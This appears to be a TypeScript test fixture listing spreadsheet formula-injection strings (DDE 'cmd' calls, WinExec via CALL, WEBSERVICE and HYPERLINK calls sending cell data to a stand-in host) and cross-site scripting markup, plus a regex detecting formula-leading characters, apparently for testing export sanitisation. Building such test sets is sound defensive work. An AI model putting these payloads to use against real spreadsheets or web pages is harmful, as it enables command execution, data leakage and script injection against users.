/** What spreadsheets run when it is taken for a formula, in the spellings attackers use. */
export const FORMULA_PAYLOADS: readonly string[] = [
  "=cmd|'/c calc'!A1", "=cmd|' /C calc'!'A1'", "+cmd|'/c calc'!A1", "-cmd|'/c calc'!A1", "@cmd|'/c calc'!A1", "=DDE(\"cmd\";\"/c calc\";\"x\")", "DDE (\"cmd\";\"/C calc\";\"!A0\")A0", "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=HYPERLINK(\"http://x.invalid/?\"&A1,\"点这里\")", "=HYPERLINK(\"file:///c:/windows/system32/calc.exe\")", "=WEBSERVICE(\"http://x.invalid/\"&A1)", "=IMPORTXML(\"http://x.invalid\",\"//a\")", "=IMPORTDATA(\"http://x.invalid\")",
  "=IMAGE(\"http://x.invalid/a.png\")", "=FILTERXML(WEBSERVICE(\"http://x.invalid\"),\"//a\")", "=IFERROR(1/0,cmd|'/c calc'!A1)", "=1+1", "=1+1\";=2+2;\"", "=SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0",
  "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "@A1", "+A1", "-A1", "=A1", "=-1", "==1", "=+1", "=@A1", "=\"\"", "='x'!A1", "=[x.xlsx]表!A1", "='\\\\x.invalid\\c$\\[a.xlsx]b'!A1", "={1,2}", "{=1+1}",
  "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "－1+1", "＠A1", "\u2212" + "1+1", "\"=1+1", "\"=1+1\"", "'=1+1", "';=1+1", "\",=1+1,\"", "x\n=cmd|'/c calc'!A1", "x\t=1+1", "x\r\n+1+1",
  "\u0000=1+1", "\u0008=1+1", "_x000D_=1+1", "_x0009_=1+1", "=CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc.exe\",0)", "=REGISTER(\"a\",\"b\")", "=EXEC(\"calc\")", "=RTD(\"a\",,\"b\")", "%0A-3+3+cmd|' /C calc'!D2", ";=cmd|'/c calc'!A1", "=LAMBDA(x,x)(1)",
];

/** What browsers run when it is taken for markup. */
export const MARKUP_PAYLOADS: readonly string[] = [
  "<script>window.__ran=1</script>", "</script><script>window.__ran=1</script>", "<img src=x onerror=\"window.__ran=1\">", "<svg onload=window.__ran=1>", "\"><img src=x onerror=window.__ran=1>", "'><svg/onload=window.__ran=1>", "<iframe src=\"javascript:window.__ran=1\"></iframe>",
  "<a href=\"javascript:window.__ran=1\">x</a>", "javascript:window.__ran=1", "<math><mi xlink:href=\"javascript:window.__ran=1\">", "<style>*{background:url(javascript:1)}</style>", "<body onload=window.__ran=1>", "<!--><img src=x onerror=window.__ran=1>-->", "<![CDATA[<img src=x onerror=window.__ran=1>]]>",
  "&lt;img src=x onerror=window.__ran=1&gt;", "<template><script>window.__ran=1</script></template>", "${window.__ran=1}", "{{constructor.constructor('window.__ran=1')()}}", "<input autofocus onfocus=window.__ran=1>", "<details open ontoggle=window.__ran=1>",
];

/** Begins a formula where a program reads a line as a cell. */
export const BEGINS_FORMULA = /^[\t\r]?[=+\-@＝＋－＠\u2212]/;
